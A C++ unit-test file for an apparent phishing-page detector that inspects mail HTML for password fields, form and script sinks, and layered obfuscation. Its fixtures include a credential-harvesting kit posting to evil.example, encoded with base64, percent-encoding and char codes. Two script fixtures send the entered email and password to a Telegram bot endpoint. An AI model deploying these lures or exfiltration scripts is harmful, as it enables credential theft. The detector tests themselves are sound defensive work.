#include "server/mail/html_inspector.h"

#include <chrono>
#include <string>
#include <vector>

#include "absl/strings/escaping.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "tests/testing/bounded_work.h"

namespace lureguard::mail {
namespace {

using ::lureguard::testing::kBoundedWorkTime;
using ::testing::ElementsAre;
using ::testing::IsEmpty;

// The shape of the kits of the cold-chain campaign: a "Sign in to view
// document" page with the recipient's address filled in and a password
// field posting to the kit's collector.
constexpr char kKitPage[] =
    R"html(<!DOCTYPE html><html><head><meta charset="utf-8">
<title>Sign in to view document</title>
<style>body{font-family:Arial}</style></head>
<body><div class="box"><img src="data:image/png;base64,iVBORw0KGgo=">
<h2>Haier Biomedical</h2><p>Sign in to view document</p>
<form method="POST" action="https://evil.example/next.php">
<input type="email" name="email" id="email" value="Alice@acme.example">
<input type="password" name="pwd" placeholder="Password">
<button type="submit">View Document</button></form></div></body></html>)html";

// One line per sink: "kind method url @depth".
std::vector<std::string> Sinks(const HtmlFindings& f) {
  std::vector<std::string> out;
  for (const HtmlSink& s : f.sinks) {
    out.push_back(std::string(SinkKindName(s.kind)) + " " + s.method + " " +
                  s.url + " @" + std::to_string(s.depth));
  }
  return out;
}

std::string Wrap(const std::string& script) {
  return "<html><head><title>Document</title></head><body><script>" + script +
         "</script></body></html>";
}

std::string PercentEncodeAll(std::string_view s) {
  static constexpr char kHex[] = "0123456789ABCDEF";
  std::string out;
  for (unsigned char c : s) {
    out += '%';
    out += kHex[c >> 4];
    out += kHex[c & 15];
  }
  return out;
}

TEST(InspectHtml, CredentialKitPage) {
  const HtmlFindings f = InspectHtml(kKitPage);
  ASSERT_TRUE(f.password_field.has_value());
  EXPECT_EQ(f.password_field->evidence, "input type=password name=pwd");
  EXPECT_EQ(f.password_field->depth, 0);
  EXPECT_TRUE(f.has_identity_field);
  EXPECT_EQ(f.forms, 1);
  EXPECT_THAT(Sinks(f),
              ElementsAre("form-action post https://evil.example/next.php @0"));
  EXPECT_THAT(f.addresses, ElementsAre("alice@acme.example"));
  EXPECT_EQ(f.title, "Sign in to view document");
  EXPECT_EQ(f.text, "Haier Biomedical Sign in to view document View Document");
  EXPECT_THAT(f.decoders, IsEmpty());
  EXPECT_EQ(f.max_depth, 0);
  EXPECT_FALSE(f.has_script);
  EXPECT_FALSE(f.truncated);
}

TEST(InspectHtml, DocumentWriteAtob) {
  const HtmlFindings f = InspectHtml(
      Wrap("document.write(atob(\"" + absl::Base64Escape(kKitPage) + "\"));"));
  ASSERT_TRUE(f.password_field.has_value());
  EXPECT_EQ(f.password_field->evidence, "input type=password name=pwd");
  EXPECT_EQ(f.password_field->depth, 1);
  EXPECT_EQ(f.forms, 1);
  EXPECT_THAT(Sinks(f),
              ElementsAre("form-action post https://evil.example/next.php @1"));
  EXPECT_THAT(f.decoders, ElementsAre("atob"));
  EXPECT_EQ(f.max_depth, 1);
  EXPECT_TRUE(f.has_script);
  EXPECT_EQ(f.title, "Document");
  EXPECT_THAT(f.addresses, ElementsAre("alice@acme.example"));
  EXPECT_EQ(f.text, "Haier Biomedical Sign in to view document View Document");
  EXPECT_FALSE(f.truncated);
}

TEST(InspectHtml, DocumentWriteUnescape) {
  const HtmlFindings f = InspectHtml(
      Wrap("document.write(unescape('" + PercentEncodeAll(kKitPage) + "'));"));
  ASSERT_TRUE(f.password_field.has_value());
  EXPECT_EQ(f.password_field->depth, 1);
  EXPECT_THAT(Sinks(f),
              ElementsAre("form-action post https://evil.example/next.php @1"));
  EXPECT_THAT(f.decoders, ElementsAre("unescape"));
}

TEST(InspectHtml, DocumentWriteFromCharCode) {
  std::string codes;
  for (unsigned char c : std::string_view(kKitPage)) {
    if (!codes.empty()) codes += ",";
    codes += std::to_string(c);
  }
  const HtmlFindings f =
      InspectHtml(Wrap("document.write(String.fromCharCode(" + codes + "));"));
  ASSERT_TRUE(f.password_field.has_value());
  EXPECT_THAT(Sinks(f),
              ElementsAre("form-action post https://evil.example/next.php @1"));
  EXPECT_THAT(f.decoders, ElementsAre("fromCharCode"));
}

TEST(InspectHtml, AtobInsideUnescape) {
  // The percent layer hides the base64 text, which hides the page.
  const std::string b64 = absl::Base64Escape(kKitPage);
  const HtmlFindings f =
      InspectHtml(Wrap("var p = '" + PercentEncodeAll(b64) +
                       "';\n"
                       "document.write(atob(unescape(p)));"));
  ASSERT_TRUE(f.password_field.has_value());
  EXPECT_THAT(Sinks(f),
              ElementsAre("form-action post https://evil.example/next.php @1"));
  EXPECT_THAT(f.decoders, ElementsAre("atob"));
}

TEST(InspectHtml, TwoMarkupLayers) {
  // A written page that itself writes the kit: depth 2.
  const std::string inner = "<script>document.write(atob('" +
                            absl::Base64Escape(kKitPage) + "'))</script>";
  const HtmlFindings f = InspectHtml(
      Wrap("document.write(unescape('" + PercentEncodeAll(inner) + "'));"));
  ASSERT_TRUE(f.password_field.has_value());
  EXPECT_EQ(f.password_field->depth, 2);
  EXPECT_THAT(Sinks(f),
              ElementsAre("form-action post https://evil.example/next.php @2"));
  EXPECT_THAT(f.decoders, ElementsAre("unescape", "atob"));
  EXPECT_EQ(f.max_depth, 2);
}

TEST(InspectHtml, SvgScriptRedirect) {
  const HtmlFindings f = InspectHtml(
      R"svg(<svg xmlns="http://www.w3.org/2000/svg" width="400" height="200">
<text x="10" y="40">Voice message (0:42)</text>
<script type="text/javascript"><![CDATA[
  window.location.href = "https://evil.example/voicemail/?e=" + "bob@acme.example";
]]></script></svg>)svg");
  EXPECT_TRUE(f.has_script);
  EXPECT_THAT(
      Sinks(f),
      ElementsAre(
          "location  https://evil.example/voicemail/?e=bob@acme.example @0"));
  EXPECT_THAT(f.addresses, ElementsAre("bob@acme.example"));
  EXPECT_EQ(f.text, "Voice message (0:42)");
  EXPECT_FALSE(f.password_field.has_value());
}

TEST(InspectHtml, MetaRefresh) {
  const HtmlFindings f = InspectHtml(
      R"html(<html><head><meta http-equiv="Refresh" content="0; URL='https://evil.example/login?id=7'"></head>
<body>Loading your document...</body></html>)html");
  EXPECT_THAT(Sinks(f),
              ElementsAre("meta-refresh  https://evil.example/login?id=7 @0"));
  EXPECT_EQ(f.text, "Loading your document...");
}

TEST(InspectHtml, TelegramExfiltrationByFetch) {
  const HtmlFindings f = InspectHtml(
      std::string(kKitPage).replace(std::string(kKitPage).find("</body>"), 7,
                                    R"html(<script>
document.querySelector("form").onsubmit = function (e) {
  e.preventDefault();
  var text = "user: " + email.value + " pass: " + pwd.value;
  fetch("https://api.telegram.org/bot123:ABC/sendMessage", {
    method: "POST", headers: {"Content-Type": "application/json"},
    body: JSON.stringify({chat_id: "-100200", text: text})});
};
</script></body>)html"));
  EXPECT_THAT(
      Sinks(f),
      ElementsAre("form-action post https://evil.example/next.php @0",
                  "fetch post https://api.telegram.org/bot123:ABC/sendMessage "
                  "@0"));
  EXPECT_THAT(f.script_urls,
              ElementsAre("https://api.telegram.org/bot123:ABC/sendMessage"));
  EXPECT_TRUE(f.has_script);
}

TEST(InspectHtml, TelegramExfiltrationByJqueryAjax) {
  const HtmlFindings f = InspectHtml(Wrap(R"js(
var bot = "https://api.telegram.org/bot" + "123:ABC" + "/sendMessage";
$("#next").click(function () {
  $.ajax({ dataType: "JSON", url: bot, type: "POST",
           data: { chat_id: "-100200", text: $("#email").val() + $("#pw").val() } });
});)js"));
  EXPECT_THAT(
      Sinks(f),
      ElementsAre(
          "jquery post https://api.telegram.org/bot123:ABC/sendMessage @0"));
  EXPECT_THAT(f.decoders, ElementsAre("string-concat"));
  EXPECT_THAT(f.script_urls,
              ElementsAre("https://api.telegram.org/bot123:ABC/sendMessage"));
}

TEST(InspectHtml, ScriptPrefillsTheRecipient) {
  const HtmlFindings f = InspectHtml(R"html(<html><body>
<form action="next.php" method="post"><input id="email" name="login">
<input name="passwd" type="text"></form>
<script>document.getElementById('email').value = "alice@acme.example";</script>
</body></html>)html");
  EXPECT_THAT(f.addresses, ElementsAre("alice@acme.example"));
  ASSERT_TRUE(f.password_field.has_value());
  EXPECT_EQ(f.password_field->evidence, "input name=passwd");
  EXPECT_TRUE(f.has_identity_field);
  // No <base>: the relative action stays as written.
  EXPECT_THAT(Sinks(f), ElementsAre("form-action post next.php @0"));
}

TEST(InspectHtml, RelativeSinksResolveAgainstBaseHref) {
  const HtmlFindings f = InspectHtml(R"html(<html><head>
<base href="https://evil.example/kit/v2/index.html"></head><body>
<form action="../post.php?x=1" method="post"><input type="password"></form>
<iframe src="/frame"></iframe><script>location.assign("//cdn.example/a");
</script></body></html>)html");
  EXPECT_THAT(
      Sinks(f),
      ElementsAre("form-action post https://evil.example/kit/post.php?x=1 @0",
                  "frame  https://evil.example/frame @0",
                  "location  https://cdn.example/a @0"));
}

TEST(InspectHtml, DataUriFrameIsInspected) {
  const HtmlFindings f =
      InspectHtml("<html><body><iframe src=\"data:text/html;base64," +
                  absl::Base64Escape(kKitPage) + "\"></iframe></body></html>");
  ASSERT_TRUE(f.password_field.has_value());
  EXPECT_EQ(f.password_field->depth, 1);
  EXPECT_THAT(f.decoders, ElementsAre("data-uri"));
  ASSERT_EQ(f.sinks.size(), 2u);
  EXPECT_EQ(f.sinks[0].kind, SinkKind::kFrame);
  EXPECT_EQ(f.sinks[1].url, "https://evil.example/next.php");
  EXPECT_EQ(f.sinks[1].depth, 1);
}

// The same page as an iframe's srcdoc, entity-escaped as an attribute must
// be: browsers render it, form and all.
TEST(InspectHtml, SrcdocFrameIsInspected) {
  std::string escaped;
  for (char c : std::string(kKitPage)) {
    if (c == '"') {
      escaped += "&quot;";
    } else if (c == '&') {
      escaped += "&amp;";
    } else if (c == '<') {
      escaped += "&lt;";
    } else {
      escaped += c;
    }
  }
  const HtmlFindings f = InspectHtml("<html><body><iframe srcdoc=\"" + escaped +
                                     "\"></iframe></body></html>");
  ASSERT_TRUE(f.password_field.has_value());
  EXPECT_EQ(f.password_field->depth, 1);
  EXPECT_THAT(f.decoders, ElementsAre("srcdoc"));
  ASSERT_EQ(f.sinks.size(), 1u);
  EXPECT_EQ(f.sinks[0].url, "https://evil.example/next.php");
  EXPECT_EQ(f.sinks[0].depth, 1);
}

TEST(InspectHtml, JavascriptUrlAndEventHandlers) {
  const HtmlFindings f = InspectHtml(
      R"html(<html><body onload="window.open('https://evil.example/pop')">
<a href="javascript:location.href='https://evil.example/a'">Open</a></body></html>)html");
  EXPECT_TRUE(f.has_script);
  EXPECT_THAT(Sinks(f), ElementsAre("window-open  https://evil.example/pop @0",
                                    "location  https://evil.example/a @0"));
}

TEST(InspectHtml, PasswordFieldNames) {
  auto evidence = [](const std::string& input) {
    const HtmlFindings f = InspectHtml("<form>" + input + "</form>");
    return f.password_field ? f.password_field->evidence : "";
  };
  EXPECT_EQ(evidence("<input name=pass>"), "input name=pass");
  EXPECT_EQ(evidence("<input name=user_pass>"), "input name=user_pass");
  EXPECT_EQ(evidence("<input id=txtPass1>"), "input id=txtPass1");
  EXPECT_EQ(evidence("<input name=passcode>"), "input name=passcode");
  EXPECT_EQ(evidence("<input name=passphrase>"), "input name=passphrase");
  EXPECT_EQ(evidence("<input placeholder='Mot de passe'>"),
            "input placeholder=Mot de passe");
  EXPECT_EQ(evidence("<input placeholder='Passwort'>"),
            "input placeholder=Passwort");
  EXPECT_EQ(evidence("<input placeholder='Contraseña'>"),
            "input placeholder=Contraseña");
  EXPECT_EQ(evidence("<input aria-label='Senha'>"), "input aria-label=Senha");
  EXPECT_EQ(evidence("<input placeholder='Пароль'>"),
            "input placeholder=Пароль");
  EXPECT_EQ(evidence("<input placeholder='密码'>"), "input placeholder=密码");
  EXPECT_EQ(evidence("<input name=haslo>"), "input name=haslo");
  EXPECT_EQ(evidence("<input name=txtPwd>"), "input name=txtPwd");
  EXPECT_EQ(evidence("<input type=PASSWORD id=p>"), "input type=password id=p");
  // Look-alikes that do not collect a password.
  EXPECT_EQ(evidence("<input name=passport_number>"), "");
  EXPECT_EQ(evidence("<input placeholder='Passport number'>"), "");
  EXPECT_EQ(evidence("<input name=passenger>"), "");
  EXPECT_EQ(evidence("<input name=bypass_cache>"), "");
  EXPECT_EQ(evidence("<input name=compass>"), "");
  EXPECT_EQ(evidence("<input name=resenha>"), "");
  EXPECT_EQ(evidence("<input type=hidden name=password>"), "");
  EXPECT_EQ(evidence("<input type=submit value=Password>"), "");
}

TEST(InspectHtml, BenignNewsletterWithSearchForm) {
  const HtmlFindings f = InspectHtml(R"html(<html><head>
<title>Acme Weekly</title></head><body>
<form action="https://news.acme.example/search" method="get" role="search">
<input type="search" name="q" placeholder="Search articles"></form>
<h1>This week at Acme</h1><p>Our new lab opens in May.</p>
<form action="https://news.acme.example/subscribe" method="post">
<input type="email" name="EMAIL" placeholder="Your e-mail"><button>Sign up</button>
</form><p>Questions? news@acme.example</p></body></html>)html");
  EXPECT_FALSE(f.password_field.has_value());
  EXPECT_THAT(
      Sinks(f),
      ElementsAre("form-action get https://news.acme.example/search @0",
                  "form-action post https://news.acme.example/subscribe @0"));
  EXPECT_EQ(f.forms, 2);
  EXPECT_TRUE(f.has_identity_field);
  EXPECT_THAT(f.addresses, ElementsAre("news@acme.example"));
  EXPECT_EQ(f.text,
            "This week at Acme Our new lab opens in May. Sign up Questions? "
            "news@acme.example");
  EXPECT_FALSE(f.has_script);
  EXPECT_THAT(f.decoders, IsEmpty());
}

TEST(InspectHtml, BenignReportWithChartScript) {
  const HtmlFindings f = InspectHtml(R"html(<html><head><title>Q3 report</title>
<script>
var data = [12, 19, 3, 5];
var labels = ["Jul", "Aug", "Sep"];
function draw(ctx) {
  for (var i = 0; i < data.length; i++) {
    var h = data[i] / 20 * 100;
    ctx.fillRect(i * 30, 100 - h, 20, h);
    tip.innerHTML = "<div class='tip'>" + labels[i] + ": " + data[i] + "</div>";
  }
}
window.onload = function () { draw(document.getElementById("c").getContext("2d")); };
</script></head><body><h1>Q3 report</h1><canvas id="c"></canvas></body></html>)html");
  EXPECT_TRUE(f.has_script);
  EXPECT_THAT(f.sinks, IsEmpty());
  EXPECT_FALSE(f.password_field.has_value());
  EXPECT_THAT(f.script_urls, IsEmpty());
  EXPECT_THAT(f.decoders, IsEmpty());
  EXPECT_EQ(f.max_depth, 0);
  EXPECT_EQ(f.text, "Q3 report");
  EXPECT_FALSE(f.truncated);
}

TEST(InspectHtml, DecodeDepthLimit) {
  // Ten base64 layers, each a script that writes the next.
  std::string page = kKitPage;
  for (int i = 0; i < 10; ++i) {
    page = "<script>document.write(atob('" + absl::Base64Escape(page) +
           "'))</script>";
  }
  const auto start = std::chrono::steady_clock::now();
  const HtmlFindings f = InspectHtml(page);
  const auto elapsed = std::chrono::steady_clock::now() - start;
  EXPECT_TRUE(f.truncated);
  EXPECT_EQ(f.max_depth, 4);
  EXPECT_FALSE(f.password_field.has_value());
  EXPECT_LT(elapsed, kBoundedWorkTime);
}

TEST(InspectHtml, FiftyNestedDecodersStop) {
  std::string script = "document.write(";
  for (int i = 0; i < 50; ++i) script += "unescape(";
  script += "'%3Cform action=https://evil.example/x%3E'";
  for (int i = 0; i < 50; ++i) script += ")";
  script += ");";
  const HtmlFindings f = InspectHtml(Wrap(script));
  EXPECT_TRUE(f.truncated);
}

TEST(InspectHtml, TenMegabyteLiteralIsCut) {
  const std::string page =
      Wrap("document.write(atob('" + std::string(10 << 20, 'Q') + "'));");
  const auto start = std::chrono::steady_clock::now();
  const HtmlFindings f = InspectHtml(page);
  const auto elapsed = std::chrono::steady_clock::now() - start;
  EXPECT_TRUE(f.truncated);
  EXPECT_LT(elapsed, kBoundedWorkTime);
}

TEST(InspectHtml, HugeFromCharCodeIsCut) {
  std::string codes = "60,102,111,114,109,62";
  for (int i = 0; i < 100000; ++i) codes += ",65";
  const auto start = std::chrono::steady_clock::now();
  const HtmlFindings f =
      InspectHtml(Wrap("document.write(String.fromCharCode(" + codes + "));"),
                  HtmlInspectOptions{.max_decoded_bytes = 4096});
  const auto elapsed = std::chrono::steady_clock::now() - start;
  EXPECT_TRUE(f.truncated);
  EXPECT_EQ(f.forms, 1);
  EXPECT_LE(f.text.size(), HtmlInspectOptions{}.max_text_bytes);
  EXPECT_LT(elapsed, kBoundedWorkTime);
}

TEST(InspectHtml, ItemLimits) {
  std::string page = "<html><body>";
  for (int i = 0; i < 100; ++i) {
    page += "<form action='https://x.example/" + std::to_string(i) +
            "'></form><p>u" + std::to_string(i) + "@acme.example</p>";
  }
  const HtmlFindings f = InspectHtml(page, HtmlInspectOptions{.max_items = 10});
  EXPECT_EQ(f.sinks.size(), 10u);
  EXPECT_EQ(f.addresses.size(), 10u);
  EXPECT_EQ(f.forms, 100);
  EXPECT_TRUE(f.truncated);
}

TEST(InspectHtml, DeepMarkupNesting) {
  std::string page;
  for (int i = 0; i < 20000; ++i) page += "<div>";
  page += "<input type=password name=p>";
  const HtmlFindings f = InspectHtml(page);
  ASSERT_TRUE(f.password_field.has_value());
}

TEST(InspectHtml, LinksAreCollectedOnceResolvedAgainstBase) {
  const HtmlFindings f = InspectHtml(
      "<base href=\"https://docs.example/share/\">"
      "<a href=\"view?id=1\">Open</a> <a href=\"view?id=1\">again</a>"
      "<map><area href=\"https://evil.example/x\"></map>"
      "<a href=\"mailto:a@b.example\">mail</a><a href=\"#top\">top</a>");
  EXPECT_THAT(f.links, ElementsAre("https://docs.example/share/view?id=1",
                                   "https://evil.example/x"));
  EXPECT_TRUE(f.sinks.empty());
}

TEST(InspectHtml, ScriptMadePasswordFieldsCount) {
  for (const char* script :
       {"var i=document.createElement('input');i.type = 'password';",
        "el.setAttribute(\"type\", \"password\");",
        "$('<input>', {type: 'password', name: 'p'}).appendTo(f);",
        "make({\"TYPE\":\"password\"})"}) {
    const HtmlFindings f = InspectHtml(
        absl::StrCat("<div id=f></div><script>", script, "</script>"));
    ASSERT_TRUE(f.password_field.has_value()) << script;
    EXPECT_EQ(f.password_field->evidence,
              "a script makes an input of type password");
  }
  for (const char* script :
       {"var hint = 'password';", "subtype = 'password'",
        "alert('Forgot your password?')", "x.type = 'passwords'"}) {
    const HtmlFindings f =
        InspectHtml(absl::StrCat("<script>", script, "</script>"));
    EXPECT_FALSE(f.password_field.has_value()) << script;
  }
}

TEST(InspectHtml, ArraysJoinedBeforeDecodingAreDecoded) {
  const std::string form =
      "<form method=post action='https://evil.example/p.php'>"
      "<input type=password name=pw></form>";
  const std::string b64 = absl::Base64Escape(form);
  for (const std::string& script :
       {absl::StrCat("var p=['", b64.substr(0, 20), "','", b64.substr(20),
                     "']; document.write(atob(p.join('')));"),
        absl::StrCat("document.write(atob(['", b64.substr(0, 10), "', '",
                     b64.substr(10), "'].join('')));")}) {
    const HtmlFindings f = InspectHtml("<script>" + script + "</script>");
    ASSERT_TRUE(f.password_field.has_value()) << script;
    ASSERT_EQ(f.sinks.size(), 1u);
    EXPECT_EQ(f.sinks[0].url, "https://evil.example/p.php");
    EXPECT_EQ(f.sinks[0].depth, 1);
  }
}

TEST(MayBeActive, PlainNewslettersAreNotAndEveryActivePageIs) {
  EXPECT_FALSE(MayBeActive(
      "<html><head><meta http-equiv=\"Content-Type\" content=\"text/html\">"
      "</head><body><h1>Weekly</h1><p>Read <a href=\"https://x.example/\">"
      "online</a> on our site.</p><img src=\"data:image/png;base64,AA\">"
      "</body></html>"));
  EXPECT_FALSE(MayBeActive(""));
  for (const char* active :
       {"<FORM action=x>", "<input name=q>", "<Script>x()</script>",
        "<iframe src=x>", "<frame src=x>", "<object data=x>", "<embed src=x>",
        "<body onload=\"go()\">", "<svg/onload = go()>",
        "<a href=\"JavaScript:go()\">", "<a href=\"data:text/html,x\">",
        "<meta http-equiv=Refresh content=0>", "type your PASSWORD here",
        "<button>Sign in</button>"}) {
    EXPECT_TRUE(MayBeActive(active)) << active;
    // Whatever MayBeActive lets pass is all InspectHtml can report on.
  }
}

TEST(MayBeActive, NothingItRulesOutHasAFieldOrSink) {
  for (const char* page :
       {"<p>Hello <b>world</b></p>", "<div style=\"color:red\">x</div>",
        "<a href=\"https://a.example/\">a</a>"}) {
    ASSERT_FALSE(MayBeActive(page)) << page;
    const HtmlFindings f = InspectHtml(page);
    EXPECT_FALSE(f.password_field.has_value()) << page;
    EXPECT_TRUE(f.sinks.empty()) << page;
    EXPECT_FALSE(f.has_identity_field) << page;
  }
}

TEST(SinkKindName, StableNames) {
  EXPECT_EQ(SinkKindName(SinkKind::kFormAction), "form-action");
  EXPECT_EQ(SinkKindName(SinkKind::kXmlHttpRequest), "xhr");
  EXPECT_EQ(SinkKindName(SinkKind::kJqueryAjax), "jquery");
  EXPECT_EQ(SinkKindName(SinkKind::kSendBeacon), "send-beacon");
  EXPECT_EQ(SinkKindName(SinkKind::kFrame), "frame");
}

}  // namespace
}  // namespace lureguard::mail
